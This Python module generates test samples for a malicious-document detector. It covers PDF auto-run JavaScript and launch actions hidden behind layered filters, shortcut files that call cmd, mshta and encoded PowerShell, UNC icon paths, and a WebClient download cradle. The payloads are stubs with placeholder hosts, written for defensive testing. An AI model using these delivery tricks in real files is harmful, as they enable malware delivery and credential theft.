"""PDF, notebooks, shortcuts, SVG, calendars, messages, winmail.dat, scripts."""
import base64
import gzip
import random
import struct
import zlib
from archives import plain
from sample import EICAR, PNG, TEXT, Sample, pe

URL = "https://files.example.net/a?b=c"


def pdf(*objects, hide=False, streams=()):
    """objects: dictionaries as text; streams: (dictionary, data)."""
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    for i, o in enumerate(objects):
        text = "".join("#%02x" % ord(c) if hide and c in "JSLaunchpeA" and k % 2 else c for k, c in enumerate(o))
        out += b"%d 0 obj\n%s\nendobj\n" % (i + 1, text.encode("latin-1"))
    for i, (head, data) in enumerate(streams):
        out += b"%d 0 obj\n<<%s/Length %d>>\nstream\r\n%s\nendstream\nendobj\n" % (i + 50, head.encode(), len(data), data)
    return out + b"trailer<</Root 1 0 R>>\n%%EOF\n"


CATALOG = "<</Type/Catalog/Pages 2 0 R>>"


def lzw(data, early=1):
    """As PDF packs it (ISO 32000-1 7.4.4): codes of 9 to 12 bits, 256 begins anew, 257 ends."""
    bits, table, width, word = "{:09b}".format(256), {bytes([i]): i for i in range(256)}, 9, b""
    for byte in data:
        longer = word + bytes([byte])
        if longer in table:
            word = longer
            continue
        bits += "{:0{}b}".format(table[word], width)
        table[longer] = len(table) + 2
        word = bytes([byte])
        width = max(9, (len(table) + 1 + early).bit_length())
        if len(table) + 2 >= 4094:
            bits += "{:0{}b}{:0{}b}".format(table[word], width, 256, width)
            table, width, word = {bytes([i]): i for i in range(256)}, 9, b""
    bits += ("{:0{}b}".format(table[word], width) if word else "") + "{:0{}b}".format(257, width)
    return int(bits + "0" * (-len(bits) % 8), 2).to_bytes((len(bits) + 7) // 8, "big")


def runs(data):
    """As pieces that stand as they are, each byte of a row of one repeated."""
    return b"".join(bytes([len(data[i:i + 100]) - 1]) + data[i:i + 100] for i in range(0, len(data), 100)) + b"\xc0\0\x80"


def rows(data, kind, width=16):
    """PNG rows of one kind, each byte a pixel."""
    out, above = b"", bytes(width)
    data += b" " * (-len(data) % width)
    for row in (data[i:i + width] for i in range(0, len(data), width)):
        guess = {0: lambda i: 0, 1: lambda i: row[i - 1] if i else 0, 2: lambda i: above[i], 3: lambda i: ((row[i - 1] if i else 0) + above[i]) // 2,
                 4: lambda i: min((abs(up + (left := row[i - 1] if i else 0) - (corner := above[i - 1] if i else 0) - x), n, x)
                                  for up in [above[i]] for n, x in enumerate((row[i - 1] if i else 0, up, above[i - 1] if i else 0)))[2]}[kind]
        out += bytes([kind]) + bytes((c - guess(i)) % 256 for i, c in enumerate(row))
        above = row
    return out


def pdfs():
    opening = "<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"
    yield Sample("pdf script opens", "a.pdf", pdf(opening), "pdf-script-opens")
    yield Sample("pdf script", "a.pdf", pdf("<</S/JavaScript/JS(app.alert(1))>>"), "pdf-script", absent=["pdf-script-opens"])
    yield Sample("pdf launch", "a.pdf", pdf("<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>"), "pdf-launch")
    yield Sample("pdf launch plain", "a.pdf", pdf("<</S/Launch/F(a.exe)>>"), "pdf-launch")
    yield Sample("pdf hidden script", "a.pdf", pdf("<</S/Jav#61Script/#4aS(app.alert(1))>>"), ["pdf-hidden", "pdf-script"])
    yield Sample("pdf hidden launch", "a.pdf", pdf("<</S/L#61unch/F(a.exe)>>"), ["pdf-hidden", "pdf-launch"])
    for name in ("a.exe", "a.js", "a.lnk", "a.iso", "a.hta"):
        yield Sample("pdf file " + name, "a.pdf", pdf("<</Type/Filespec/F(%s)/EF<</F 9 0 R>>>>" % name, streams=[("/Type/EmbeddedFile", TEXT)]), ["embedded-program", "pdf-file"])
    yield Sample("pdf file wide", "a.pdf", pdf("<</Type/Filespec/UF<%s>>>" % ("feff" + "a.exe".encode("utf-16-be").hex())), "embedded-program")
    yield Sample("pdf program", "a.pdf", pdf(CATALOG, streams=[("/Type/EmbeddedFile", pe())]), "embedded-program")
    yield Sample("pdf packed program", "a.pdf", pdf(CATALOG, streams=[("/Type/EmbeddedFile/Filter/FlateDecode", zlib.compress(pe()))]), "embedded-program")
    yield Sample("pdf EICAR", "a.pdf", pdf(CATALOG, streams=[("/Type/EmbeddedFile/Filter/FlateDecode", zlib.compress(EICAR))]), "eicar")
    yield Sample("pdf zip of program", "a.pdf", pdf(CATALOG, streams=[("/Type/EmbeddedFile", plain([("a.exe", pe())]))]), "archived-program")
    packed = zlib.compress(b"1 0 2 20 <</S/JavaScript/JS(x)>> <</OpenAction 1 0 R/A<</URI(%s)>>>>" % URL.encode())
    yield Sample("pdf object stream", "a.pdf", pdf(CATALOG, streams=[("/Type/ObjStm/N 2/Filter/FlateDecode", packed)]), "pdf-script-opens", links=[URL])
    yield Sample("pdf object stream plain", "a.pdf", pdf(CATALOG, streams=[("/Type/ObjStm/N 1", b"1 0 <</S/Launch/F(a.exe)>>")]), "pdf-launch")
    for label, names, data in (("hexadecimal", "/ASCIIHexDecode/FlateDecode", packed.hex().encode() + b">"), ("base 85", "/A85/Fl", base64.a85encode(packed) + b"~>"),
                               ("base 85 alone", "/ASCII85Decode", base64.a85encode(zlib.decompress(packed) + bytes(9)) + b"~>"), ("packed twice", "/FlateDecode/FlateDecode", zlib.compress(packed))):
        yield Sample("pdf object stream in " + label, "a.pdf", pdf(CATALOG, streams=[("/Type/ObjStm/N 2/Filter[%s]" % names, data)]), "pdf-script-opens", links=[URL])
    objects = zlib.decompress(packed)
    long = objects + b"".join(b" /P%d" % (i * i * 7919 % 10007) for i in range(6000))
    for label, names, data in (("LZW", "/LZWDecode", lzw(objects)), ("LZW of several tables", "/LZW", lzw(long)), ("LZW, later", "/LZWDecode/DecodeParms<</EarlyChange 0>>", lzw(long, 0)),
                               ("runs", "/RunLengthDecode", runs(objects)), ("LZW in base 85", "[/A85/LZW]", base64.a85encode(lzw(objects)) + b"~>"), ("runs, packed", "[/Fl/RL]", zlib.compress(runs(objects)))):
        yield Sample("pdf object stream as " + label, "a.pdf", pdf(CATALOG, streams=[("/Type/ObjStm/N 2/Filter" + names, data)]), "pdf-script-opens", links=[URL])
    for kind in range(5):
        head = "/Filter/FlateDecode/DecodeParms<</Predictor %d/Columns 16>>" % (10 + kind)
        yield Sample("pdf object stream in rows of kind %d" % kind, "a.pdf", pdf(CATALOG, streams=[("/Type/ObjStm/N 2" + head, zlib.compress(rows(objects, kind)))]), "pdf-script-opens", links=[URL])
    differences = bytes((c - (objects[i - 1] if i % 16 else 0)) % 256 for i, c in enumerate(objects))
    yield Sample("pdf object stream in rows of TIFF", "a.pdf", pdf(CATALOG, streams=[("/Type/ObjStm/N 2/Filter[/Fl]/DecodeParms[<</Predictor 2/Columns 16>>]", zlib.compress(differences))]),
                 "pdf-script-opens", links=[URL])
    hexed = packed.hex().encode() + b">"
    for label, head, data in (("three filters", "/Filter [ /ASCII85Decode/ASCIIHexDecode %x\r/FlateDecode]", base64.a85encode(hexed) + b"~>"),
                              ("text in packed", "/Filter[/FlateDecode/ASCIIHexDecode]", zlib.compress(zlib.decompress(packed).hex().encode() + b">")),
                              ("word of another filter", "/Filter/FlateDecode/Foo/AHx/Bar/A85", packed), ("filter that was not used", "/DecodeParms<</Filter/AHx>>/Filter/Fl", packed),
                              ("filter of nothing", "/Filter[/Crypt/#46lateDecode]", packed), ("filter elsewhere", "/Filter 9 0 R", packed)):
        yield Sample("pdf object stream, " + label, "a.pdf", pdf(CATALOG, streams=[("/Type/ObjStm/N 2" + head, data)]), "pdf-script-opens", links=[URL])
    yield Sample("pdf program in base 85", "a.pdf", pdf(CATALOG, streams=[("/Type/EmbeddedFile/Filter/ASCII85Decode", base64.a85encode(pe()) + b"~>")]), "embedded-program")
    yield Sample("pdf sends a form", "a.pdf", pdf("<</S/SubmitForm/F(%s)>>" % URL), [], links=[URL])
    yield Sample("pdf with a web archive as doc", "a.doc", pdf(CATALOG, streams=[("", b"Content-Type: application/x-mso\r\n\r\nQWN0aXZlTWltZQAAAA")]), "office-macro")
    yield Sample("pdf link", "a.pdf", pdf("<</A<</S/URI/URI(%s)>>>>" % URL), [], links=[URL])
    yield Sample("pdf escaped link", "a.pdf", pdf("<</A<</S/URI/URI (https:\\057\\057files.example.net/\\(a\\)(b))>>>>"), [], links=["https://files.example.net/(a)(b)"])
    yield Sample("pdf hexadecimal link", "a.pdf", pdf("<</A<</S/URI/URI<%s>>>>>" % URL.encode().hex()), [], links=[URL])
    yield Sample("pdf share", "a.pdf", pdf("<</S/GoToR/F(\\\\\\\\192.0.2.7\\\\a.pdf)>>"), "remote-object")
    yield Sample("pdf media", "a.pdf", pdf("<</Subtype/RichMedia>>"), "pdf-media")
    yield Sample("pdf encrypted", "a.pdf", pdf("<</Encrypt 3 0 R/A<</URI(%s)>>>>" % URL), "pdf-encrypted")
    yield Sample("pdf encrypted, plain link", "a.pdf", pdf("<</Encrypt 3 0 R/A<</URI(%s)>>>>" % URL), "pdf-encrypted", links=[URL])
    yield Sample("pdf with a name like encrypted", "a.pdf", pdf("<</EncryptMetadata false/S/URI/URI(https://files.example.net/\xe5)/F(\xe5.exe)>>"), "embedded-program", links=["https://files.example.net/?"])
    yield Sample("pdf without end", "a.pdf", pdf(opening, streams=[("", b"x" * 90)])[:-60], "pdf-script-opens")
    yield Sample("pdf behind blanks", "a.pdf", b"\r\n\r\n" + pdf(opening), "pdf-script-opens")
    yield Sample("pdf unnamed", "a.dat", pdf(opening), "pdf-script-opens")


def note(*files, names=()):
    out = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(1000)
    for data in files:
        out += bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<QIQ", len(data), 0, 0) + data + bytes(40)
    return out + b"".join(bytes(8) + n.encode("utf-16-le") + bytes(8) for n in names)


def notes():
    for label, data in (("program", pe()), ("hta", b"<html><hta:application id=x></html>"), ("bat", b"@echo off\r\nstart x\r\n"), ("shortcut", link("cmd.exe")),
                        ("powershell", b"powershell -enc aaaa\r\n"), ("wsf", b"<job><script>x = new ActiveXObject('WScript.Shell')</script></job>")):
        yield Sample("note with " + label, "a.one", note(PNG, data), "embedded-program" if label != "shortcut" else "shortcut")
    for name in ("open.js", "Attachment.hta", "a b.lnk", "x.cmd"):
        yield Sample("note with name " + name, "a.one", note(TEXT, names=[name]), "embedded-program")


def link(target="", arguments="", icon="", wide=True, share=False):
    flags = 4 * 0 | (8 if target else 0) | (0x20 if arguments else 0) | (0x40 if icon else 0) | (0x80 if wide else 0) | (2 if share else 0)
    out = struct.pack("<I", 0x4C) + bytes.fromhex("0114020000000000c000000000000046") + struct.pack("<II", flags, 0x20) + bytes(48)
    if share:
        raw = b"\\\\192.0.2.7\\share\0"
        out += struct.pack("<IIIIIII", 28 + len(raw), 28, 2, 0, 0, 28, 0) + raw
    for text in (target, arguments, icon):
        if text:
            out += struct.pack("<H", len(text)) + text.encode("utf-16-le" if wide else "ascii")
    return out + bytes(4)


def shortcuts():
    for wide in (False, True):
        yield Sample("lnk %d" % wide, "a.lnk", link("..\\a.txt", wide=wide), ["shortcut", "shortcut-name"], absent=["shortcut-command"])
        for target, arguments in (("C:\\Windows\\System32\\cmd.exe", "/c start x"), ("x\\powershell.exe", "-w hidden -enc aaa"), ("mshta.exe", "http://x.example/a.hta"), ("x", "/c curl -o a b"),
                                  ("rundll32.exe", "a.dll,f"), ("conhost.exe", "--headless x")):
            yield Sample("lnk %s %d" % (target, wide), "a.lnk", link(target, arguments, wide=wide), ["shortcut", "shortcut-command"])
        yield Sample("lnk icon %d" % wide, "a.lnk", link("a.pdf", icon="\\\\192.0.2.7\\share\\a.ico", wide=wide), ["shortcut", "shortcut-remote"])
        yield Sample("lnk link %d" % wide, "a.lnk", link("a", "-x https://x.example/a", wide=wide), "shortcut", links=["https://x.example/a"])
    yield Sample("lnk share", "a.lnk", link("a", share=True), "shortcut-remote")
    yield Sample("lnk unnamed", "a.dat", link("cmd.exe"), "shortcut-command")
    yield Sample("lnk in zip", "a.zip", plain([("invoice.pdf.lnk", link("cmd.exe", "/c x"))]), ["shortcut-command", "double-extension"])
    yield Sample("lnk as pdf", "a.pdf", link("cmd.exe"), ["disguised-program", "shortcut-command"])
    for target, sign in (("file://192.0.2.7/share/a.pdf", "shortcut-remote"), ("file:////192.0.2.7/share/a.exe", "shortcut-remote"), ("https://x.example/a.exe", "shortcut-command"),
                         ("https://x.example/a.vbs?x", "shortcut-command"), ("https://x.example/a", "link-file")):
        yield Sample("url " + target, "a.url", ("[InternetShortcut]\r\nURL=%s\r\n" % target).encode(), sign, links=[target] if target.startswith("http") else [])
    yield Sample("url icon", "a.url", b"[InternetShortcut]\r\nURL=https://x.example/\r\nIconFile=\\\\192.0.2.7\\a\\b.ico\r\n", "shortcut-remote")
    yield Sample("scf", "a.scf", b"[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.7\\a\\b.ico\r\n", ["shortcut-name", "shortcut-remote"])
    yield Sample("library-ms", "a.library-ms", b"<libraryDescription><url>\\\\192.0.2.7\\share</url></libraryDescription>", "shortcut-name")
    yield Sample("library-ms share", "a.library-ms", b"<libraryDescription><url>\\\\192.0.2.7\\share\\x</url></libraryDescription>", "shortcut-remote")
    yield Sample("search-ms", "a.search-ms", b"<x location='file://192.0.2.7/share/x'/>", "shortcut-remote")
    yield Sample("theme", "a.theme", b"[Theme]\r\nBrandImage=\\\\192.0.2.7\\a\\b.png\r\n", "shortcut-remote")
    yield Sample("iqy", "a.iqy", b"WEB\r\n1\r\nhttps://x.example/q\r\n", "shortcut-name", links=["https://x.example/q"])
    yield Sample("desktop", "a.desktop", b"[Desktop Entry]\nExec=sh -c 'curl x'\n", ["link-file", "shortcut-command"])
    yield Sample("setting", "a.settingcontent-ms", b"<x><DeepLink>cmd.exe /c calc</DeepLink></x>", "shortcut-command")
    yield Sample("wide url", "a.url", "\ufeff[InternetShortcut]\r\nURL=file://192.0.2.7/a/b\r\n".encode("utf-16-le"), "shortcut-remote")


def pictures():
    svg = "<svg xmlns='http://www.w3.org/2000/svg'>%s</svg>"
    for inside in ("<script>alert(1)</script>", "<ns:script href='x'/>", "<rect onload='x()'/>", "<image\nonerror = 'x'/>", "<a href='javascript:x'>y</a>", "<foreignObject><iframe src='x'/></foreignObject>",
                   "<foreignObject><form action='x'/></foreignObject>", "<embed src='x'/>", "<use href='data:text/html,x'/>", "<SCRIPT >x</SCRIPT>"):
        yield Sample("svg " + inside[:14], "a.svg", (svg % inside).encode(), "svg-script")
        yield Sample("svg as xml " + inside[:14], "a.dat", ("<?xml version='1.0'?>\n" + svg % inside).encode(), "svg-script", type="image/svg+xml")
    yield Sample("svgz", "a.svgz", gzip.compress((svg % "<script>x</script>").encode()), "svg-script")
    yield Sample("svg page", "a.svg", (svg % "<foreignObject><p>x</p></foreignObject>").encode(), "svg-page")
    yield Sample("svg link", "a.svg", (svg % ("<a xlink:href='%s'>x</a>" % URL)).encode(), "web-file", links=[URL])
    for word in "html htm shtml mht xhtml".split():
        yield Sample("page " + word, "a." + word, b"<html><body>x</body></html>", "web-file")
    yield Sample("page in Latin-1, packed", "a.html.gz", gzip.compress(b"<html><a href='http://x.example/\xe5'>x</a></html>"), [], links=["http://x.example/\xe5"])
    yield Sample("active mime", "a.mht", b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\nQWN0aXZlTWltZQAAAfAEAAAA", "office-macro")
    yield Sample("active mime in doc", "a.doc", b"MIME-Version: 1.0\r\nX: y\r\n\r\nQWN0aXZlTWltZQAAAfAEAAAA", "office-macro")


def calendars():
    ics = "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\n%s\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    yield Sample("ics link", "a.ics", (ics % ("URL:" + URL)).encode(), [], links=[URL])
    yield Sample("ics folded link", "a.ics", (ics % "DESCRIPTION:see https://files.exam\r\n ple.net/a?b=c\\nBye").encode(), [], links=[URL])
    for name, data, sign in (("a.exe", pe(), "program-name"), ("a.js", TEXT, "script-name"), ("a.zip", plain([("b.exe", pe())]), "archived-program")):
        text = base64.b64encode(data).decode()
        yield Sample("ics file " + name, "a.ics", (ics % ("ATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=%s:%s" % (name, text))).encode(), sign, type="text/calendar")
        folded = "\r\n ".join(text[i:i + 60] for i in range(0, len(text), 60))
        yield Sample("ics folded file " + name, "", (ics % ("ATTACH;ENCODING=BASE64;FILENAME=%s;VALUE=BINARY:\r\n %s" % (name, folded))).encode(), sign, type="text/calendar")


def tnef(files, long_names=True):
    def attribute(level, number, data):
        return struct.pack("<BII", level, number, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)
    out = struct.pack("<IH", 0x223E9F78, 1) + attribute(1, 0x00089006, struct.pack("<I", 0x10000))
    for name, data in files:
        out += attribute(2, 0x00069002, bytes(14)) + attribute(2, 0x00018010, name[-12:].encode() + b"\0") + attribute(2, 0x0006800F, data)
        wide = name.encode("utf-16-le") + b"\0\0"
        if long_names:
            out += attribute(2, 0x00069005, struct.pack("<IHHII", 1, 0x1F, 0x3707, 1, len(wide)) + wide)
    return out


def letter(name=None, data=b"", html=b"", fold=b"\r\n"):
    """A message with a file, or with a page as its text."""
    head = b"From: a@example.com\nTo: b@example.com\nSubject: Minutes\nMIME-Version: 1.0\n"
    body = b"Content-Type: text/html\n\n" + html + b"\n"
    if name:
        body = (b'Content-Type: multipart/mixed; boundary="b"\n\n--b\nContent-Type: text/plain\n\nSee below.\n--b\n'
                b'Content-Type: application/octet-stream\nContent-Disposition: attachment; filename="%s"\nContent-Transfer-Encoding: base64\n\n%s--b--\n'
                % (name.encode(), base64.encodebytes(data)))
    return (head + body).replace(b"\n", fold)


def der(tag, *inside):
    content = b"".join(inside)
    n = len(content)
    return bytes([tag]) + (bytes([n]) if n < 128 else b"\x82" + struct.pack(">H", n) if n < 65536 else b"\x84" + struct.pack(">I", n)) + content


def cms(content, pieces=0, kind=2):
    """SignedData around the content, without signers; in pieces of that size, with lengths that are not told."""
    oid = lambda last: der(6, b"\x2a\x86\x48\x86\xf7\x0d\x01\x07" + bytes([last]))  # noqa: E731
    head = der(2, b"\1") + der(0x31)
    if not pieces:
        return der(0x30, oid(kind), der(0xA0, der(0x30, head, der(0x30, oid(1), der(0xA0, der(4, content))), der(0x31))))
    octets = b"\x24\x80" + b"".join(der(4, content[k:k + pieces]) for k in range(0, len(content), pieces)) + bytes(2)
    return b"\x30\x80" + oid(kind) + b"\xa0\x80\x30\x80" + head + b"\x30\x80" + oid(1) + b"\xa0\x80" + octets + bytes(4) + der(0x31) + bytes(6)


def messages():
    form = b'<html><form action="https://pay.example.net/"><input type="password" name="p"></form></html>'
    entity = letter("a.exe", pe())
    entity = entity[entity.index(b"Content-Type"):]
    for label, fold in (("CRLF", b"\r\n"), ("LF", b"\n")):
        yield Sample("eml of program " + label, "a.eml", letter("a.exe", pe(), fold=fold), ["program-name", "program"])
        yield Sample("eml of form " + label, "letter.eml", letter(html=form, fold=fold), "credential-form")
    yield Sample("eml of archive", "a", letter("b.zip", plain([("c.js", TEXT)])), ["archived-program", "archived-alone"])
    yield Sample("eml in eml", "a.eml", letter("b.eml", letter("c.exe", pe())), ["program-name", "program"])
    yield Sample("eml in zip", "a.zip", plain([("b.eml", letter("c.exe", pe()))]), ["program-name", "program"])
    yield Sample("eml that MIME opened", "a.eml", letter("a.exe", pe()), [], type="message/rfc822", absent=["program"])
    yield Sample("eml cut", "a.eml", letter("a.exe", pe() + bytes(5000))[:-3000], "program")
    for label, front in (("the line of a mailbox", b"From ann@example.com Sat Nov 28\n"), ("lines of another kind", b"hello\n\nFrom here\n"), ("unknown fields", b"X-A: b\n" * 9),
                         ("a long field", b"X-A: " + b"y" * 5000 + b"\n"), ("a mark of another format", b"%PDF-1.7\n")):
        yield Sample("eml behind " + label, "a.eml", front + letter("a.exe", pe()), ["program-name", "program"])
        yield Sample("eml declared, behind " + label, "", front + letter("a.exe", pe()), ["program-name", "program"], type="message/x")
    yield Sample("report of a server", "", b"X-A: b\n" * 9 + letter("a.exe", pe()), [], type="message/delivery-status", absent=["program"])
    for pieces in (0, 100):
        yield Sample("signed message %d" % pieces, "smime.p7m", cms(entity, pieces), ["program-name", "program"])
        yield Sample("signed file %d" % pieces, "annex.js.p7m", cms(pe(), pieces), "program")
        yield Sample("signed text %d" % pieces, "annex.txt.p7m", cms(TEXT, pieces), [], absent=["script-name"])
        yield Sample("signed script %d" % pieces, "annex.js.p7m", cms(TEXT, pieces), "script-name")
    whole = cms(entity, 100)
    for label, data in (("set without a length", whole.replace(b"\2\1\1\x31\0", b"\2\1\1\x31\x80\x30\x80\6\1\x2a\0\0\0\0", 1)), ("pieces of pieces", whole.replace(b"\x24\x80", b"\x24\x80" * 3 + der(4, b"X-A: b\r\n"), 1).replace(bytes(6), bytes(10), 1)),
                        ("pieces of pieces with lengths", cms(entity).replace(der(4, entity), der(0x24, der(0x24, der(4, entity[:50]), der(4, entity[50:]))))),
                        ("another field first", cms(b"X-A: b\r\n c\r\n" * 9 + entity)), ("long length", b"\x30\x85\0" + struct.pack(">I", len(cms(entity))) + cms(entity)[4:])):
        yield Sample("signed, " + label, "smime.p7m", data, ["program-name", "program"])
    yield Sample("signed twice", "smime.p7m", cms(b"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(cms(entity))), "program")
    yield Sample("enveloped", "smime.p7m", cms(entity, kind=3), [], absent=["program"])
    endless = cms(b"x" * 50, 10).replace(b"\x04\x0a", b"\x04\x80")
    yield Sample("signed, pieces without an end", "a.txt.p7m", endless, [])


def wrapped():
    for name, data, signs in (("payment.exe", pe(), ["program-name", "program"]), ("payment.js", TEXT, ["script-name"]), ("a.zip", plain([("b.vbs", TEXT)]), ["archived-program"]),
                              ("a.dat", EICAR, ["eicar"]), ("invoice.pdf.scr", pe(), ["double-extension"])):
        for long_names in (False, True):
            yield Sample("tnef %s %d" % (name, long_names), "winmail.dat", tnef([("a.txt", TEXT), (name, data)], long_names), signs, type="application/ms-tnef")
    yield Sample("external body", "", b"", "external-body", type="message/external-body")
    yield Sample("partial", "", TEXT, "partial-message", type="message/partial")
    yield Sample("script words", "a.js", b"var s = new ActiveXObject('WScript.Shell'); s.Run('x')", ["script-name", "script-commands"])
    yield Sample("script words ps1", "a.ps1", b"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x')", "script-commands")
    yield Sample("hta words", "a.hta", b"<hta:application><script>new ActiveXObject('WScript.Shell').Run('powershell')</script>", ["program", "script-commands"])


def tricks():
    for make in (pdfs, notes, shortcuts, pictures, calendars, messages, wrapped):
        yield from make()


def benign():
    rng = random.Random(11)
    letters = lambda n: bytes(rng.choice(b"abcdefghij \r\n") for _ in range(n))  # noqa: E731
    for i in range(60):
        streams = [("/Filter/FlateDecode", zlib.compress(letters(rng.randrange(10, 3000)))) for _ in range(rng.randrange(1, 5))]
        streams.append(("/Type/ObjStm/N 3/Filter/FlateDecode", zlib.compress(b"1 0 <</Type/Font/BaseFont/Arial#20Bold>> <</Type/Page/AA 3 0 R>>")))
        streams.append(("/Subtype/Image/Filter/DCTDecode", bytes(rng.randrange(256) for _ in range(3000))))
        if i % 7 == 0:
            streams.append(("/Type/EmbeddedFile/Subtype/text#2Fxml/Filter/FlateDecode", zlib.compress(b"<?xml version='1.0'?><invoice/>")))
        objects = [CATALOG, "<</Type/Page/Annots[<</A<</S/URI/URI(https://www.example.com/)>>>>]>>", "<</Type/Filespec/F(invoice.xml)/UF(invoice.xml)>>", "<</OpenAction[3 0 R/Fit]>>",
                   "<</Title(powershell and cmd.exe explained)>>"]
        yield Sample("benign pdf %d" % i, "report %d.pdf" % i, pdf(*objects, streams=streams), None)
        shape = "".join("<path d='M%d %d'/>" % (rng.randrange(99), rng.randrange(99)) for _ in range(40))
        yield Sample("benign svg %d" % i, "logo.svg", ("<svg xmlns='http://www.w3.org/2000/svg' version='1.1'><style>.on{color:red}</style><g font='on'>%s</g></svg>" % shape).encode(), None)
        yield Sample("benign eml %d" % i, "letter %d.eml" % i, letter("plan.pdf", b"%PDF-1.4\n" + letters(50)), None)
        yield Sample("benign signed %d" % i, "smime.p7m", cms(letter(html=b"<p>Hello</p>")[60:], i % 3 * 50), None)
        yield Sample("benign note %d" % i, "notes.one", note(PNG, b"%PDF-1.4\n" + letters(50), names=["plan.docx", "photo.png"]), None)
        yield Sample("benign ics %d" % i, "invite.ics", ("BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:%s\r\nURL:https://meet.example.com/x\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n" % i).encode(), None)
        yield Sample("benign tnef %d" % i, "winmail.dat", tnef([("letter %d.pdf" % i, b"%PDF-1.4\n"), ("photo.jpg", PNG)]), None)
